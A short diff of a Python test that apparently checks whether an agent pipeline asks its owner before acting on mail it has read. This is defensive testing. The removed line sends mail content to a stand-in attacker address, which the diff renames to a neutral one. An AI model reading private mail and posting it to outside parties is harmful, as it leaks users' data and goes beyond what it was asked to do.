@@ -189,7 +189,7 @@ def test_what_a_model_writes_after_reading_is_asked_about(
 
     def answer(ctx: SkillContext) -> SkillResult:
         ctx.call(read_mail)
-        return SkillResult(text=ctx.call(office.post, to="boss@attacker.example"))
+        return SkillResult(text=ctx.call(office.post, to="boss@elsewhere.example"))
 
     pipeline(answer)
     asked = waiting(turn(cast.owner, "answer it"))
